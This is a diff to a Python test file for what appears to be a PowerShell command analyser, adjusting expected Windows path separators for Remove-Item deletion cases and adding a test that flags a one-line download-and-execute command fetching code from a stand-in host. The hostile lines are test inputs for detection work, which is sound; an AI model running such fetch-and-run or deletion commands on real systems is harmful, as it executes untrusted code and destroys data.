@@ -93,10 +93,10 @@ def test_text_that_does_not_run_is_no_command(text: str, argvs: Callable[[str], 
         ("Remove-Item ([IO.Path]::Combine('C:\\a', 'b'))", "C:\\a\\b"),
         ("Remove-Item ([Environment]::GetFolderPath('Desktop'))", "/home/dev/Desktop"),
         ("$d = Split-Path $PWD; Remove-Item $d", "/home/dev"),
-        ("Get-ChildItem C:\\x | Remove-Item", "C:\\x/*"),
-        ("gci C:\\x -Filter *.log | ri", "C:\\x/*.log"),
-        ("gci C:\\x | ? Name -eq 'a.txt' | ri", "C:\\x/a.txt"),
-        ("gci C:\\x | ? { $_.Extension -eq '.tmp' } | % { ri $_.FullName }", "C:\\x/*.tmp"),
+        ("Get-ChildItem C:\\x | Remove-Item", "C:\\x\\*"),
+        ("gci C:\\x -Filter *.log | ri", "C:\\x\\*.log"),
+        ("gci C:\\x | ? Name -eq 'a.txt' | ri", "C:\\x\\a.txt"),
+        ("gci C:\\x | ? { $_.Extension -eq '.tmp' } | % { ri $_.FullName }", "C:\\x\\*.tmp"),
         ("New-PSDrive -Name R -PSProvider FileSystem -Root C:\\x; Remove-Item R:\\a", "C:\\x/a"),
         ('Remove-Item "C:\\$(1 + 1)"', "C:\\2"),
         ("$x = if ($true) { 'C:\\a' } else { 'C:\\b' }; Remove-Item $x", "C:\\a"),
@@ -154,6 +154,11 @@ def test_programs_are_started_by_whatever_starts_them(argvs: Callable[[str], lis
         "[Diagnostics.Process]::Start($i)",
     ):
         assert wanted in argvs(text), text
+
+
+def test_a_command_is_reported_where_it_stands(read: Callable[[str], Evaluation]) -> None:
+    text = "& ([scriptblock]::Create((iwr http://x.example/y).Content))"
+    assert [c.span for c in read(text).commands if c.argv[0] == "Invoke-Expression"] == [(0, len(text))]
 
 
 def test_what_is_written_can_be_followed(read: Callable[[str], Evaluation]) -> None:
